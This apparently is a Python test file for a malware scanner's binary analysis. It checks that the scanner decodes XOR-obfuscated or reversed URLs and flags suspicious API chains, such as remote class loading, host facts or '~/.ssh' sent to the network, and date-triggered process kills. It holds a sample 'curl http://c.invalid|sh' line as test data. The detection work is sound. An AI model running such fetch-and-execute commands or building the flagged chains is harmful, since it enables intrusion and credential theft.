"""Text that is compiled in number by number, and both ends of a chain in one class."""

import base64

import pytest
from hypothesis import given
from hypothesis import strategies as st

from beartrap.vet.binary.arrays import in_arrays, in_reversed, opened
from beartrap.vet.binary.ends import DOTNET, JAVA, PYTHON, by_name, chains
from beartrap.vet.kinds import Kind

ADDRESS = b"https://c.invalid/p.jar"


def filled(values: bytes) -> bytes:
    """The bytecode that fills an array."""
    return b"".join(bytes([0x59, 0x10, place, 0x10, value, 0x54]) for place, value in enumerate(values))


@given(st.integers(0, 255), st.booleans(), st.booleans())
def test_one_number_for_all_characters_is_undone(key: int, added: bool, turned: bool) -> None:
    values = bytes((one + key) & 0xFF if added else one ^ key for one in ADDRESS)
    found = opened(values[::-1] if turned else values, 0)
    assert found is not None and found.text == ADDRESS.decode()


def test_numbers_without_a_meaning_are_left_alone() -> None:
    assert opened(bytes(range(200)), 0) is None
    assert opened(b"a table of letters, no more", 0) is None
    assert opened(bytes(range(40)), 0) is None
    assert opened(bytes(one ^ (0x20 + place % 2) for place, one in enumerate(ADDRESS)), 0) is None


@given(st.binary(max_size=300), st.integers(0, 255), st.binary(max_size=300))
def test_an_address_is_found_among_any_numbers(before: bytes, key: int, behind: bytes) -> None:
    found = opened(before + bytes(one ^ key for one in ADDRESS) + behind, 0)
    assert found is not None and found.text


@given(st.integers(1, 255))
def test_what_stands_behind_a_long_table_is_found(key: int) -> None:
    found = opened(bytes(one ^ key for one in bytes(9_000) + ADDRESS), 0)
    assert found is not None and found.text == ADDRESS.decode()


def test_what_a_method_puts_into_an_array() -> None:
    (found,) = in_arrays(b"\0" * 9 + filled(bytes(one ^ 21 for one in ADDRESS)) + b"\xb1", Kind.BYTECODE)
    assert (found.text, found.offset, found.layers[0].encoding) == (ADDRESS.decode(), 9, "xor 0x15")
    assert not list(in_arrays(filled(b"a table of letters, no more"), Kind.BYTECODE))


def test_the_thousandth_array_is_looked_at() -> None:
    content = (filled(bytes(range(9, 20))) + b"\xb1") * 1_000 + filled(ADDRESS)
    assert [one.text for one in in_arrays(content, Kind.BYTECODE)] == [ADDRESS.decode()]


def test_what_native_code_puts_on_its_stack() -> None:
    code = b"".join(b"\xc6\x45" + bytes([place, value]) for place, value in enumerate(b"curl http://c.invalid|sh"))
    assert [one.text for one in in_arrays(code, Kind.ELF)] == ["curl http://c.invalid|sh"]


def test_what_stands_the_wrong_way_round() -> None:
    assert [one.text for one in in_reversed(b"\0" + b"http://192.0.2.1/a"[::-1] + b"\0")] == ["http://192.0.2.1/a"]


@pytest.mark.parametrize(
    ("members", "texts", "wanted"),
    [
        (["java/net/URLClassLoader::<init>", "java/net/URL::<init>"], ["https://c.invalid/p.jar"], {"network to code"}),
        (["java/net/URL::openStream", "java/lang/ClassLoader::defineClass"], [], {"network to code"}),
        (["java/net/URLClassLoader::<init>", "java/io/File::toURI"], ["plugins"], set()),
        (["java/net/URL::openConnection", "java/lang/System::getenv"], ["https://c.invalid"], {"environment to network"}),
        (["java/net/URL::openConnection", "java/lang/System::getenv"], ["PROXY"], set()),
    ],
)  # fmt: skip
def test_both_ends_in_one_class(members: list[str], texts: list[str], wanted: set[str]) -> None:
    assert {name for name, _ in chains(JAVA, members, texts)} == wanted


def test_both_ends_in_one_type() -> None:
    assert dict(chains(DOTNET, ["System.Net.WebClient::DownloadData", "System.Reflection.Assembly::Load"], []))
    assert not dict(chains(DOTNET, ["System.Net.WebClient::DownloadData", "System.IO.File::WriteAllBytes"], ["a"]))


def test_a_class_that_is_called_by_its_name() -> None:
    members = ["java/lang/Class::forName", "java/lang/reflect/Method::invoke"]
    assert "java/lang/Runtime::exec" in set(by_name(members, ["java.lang.Runtime", "exec"]))
    assert not list(by_name(members[:1], ["java.lang.Runtime", "exec"]))
    encoded = base64.b64encode(b"javax.script.ScriptEngineManager").decode()
    assert "javax/script/ScriptEngineManager::eval" in set(by_name(members, [encoded, "eval"]))


def test_what_lies_behind_the_numbers_is_no_part_of_the_text() -> None:
    found = opened(bytes(one ^ 0x91 for one in ADDRESS) + b"\x07\x01" * 9, 0)
    assert found is not None and found.text == ADDRESS.decode()


FACTS = [
    "System.Environment::get_UserName",
    "System.Environment::get_MachineName",
    "System.Net.WebClient::UploadString",
]


def test_who_and_where_one_is_goes_to_a_fixed_address() -> None:
    assert ("host facts to network", ADDRESS.decode()) in set(chains(DOTNET, FACTS, [ADDRESS.decode()]))
    assert not list(chains(DOTNET, FACTS[1:], [ADDRESS.decode()]))
    assert not list(chains(DOTNET, FACTS, ["no address"]))


def test_a_day_on_which_a_program_ends() -> None:
    day = ["System.DateTime::get_UtcNow", "System.DateTime::.ctor", "System.Diagnostics.Process::Kill"]
    assert [name for name, _ in chains(DOTNET, day, [])] == ["a day to the end"]
    assert not list(chains(DOTNET, day[:2], []))


def test_an_address_in_base64_is_one() -> None:
    coded = base64.b64encode(ADDRESS).decode()
    assert ("network to code", ADDRESS.decode()) in set(chains(JAVA, ["java/net/URLClassLoader::<init>"], [coded]))


def test_bytecode_that_takes_keys_and_speaks() -> None:
    assert [name for name, _ in chains(PYTHON, ["walk", "urlopen"], ["~/.ssh"])] == ["secrets to network"]
    assert not list(chains(PYTHON, ["walk", "urlopen"], ["~/.cache"]))
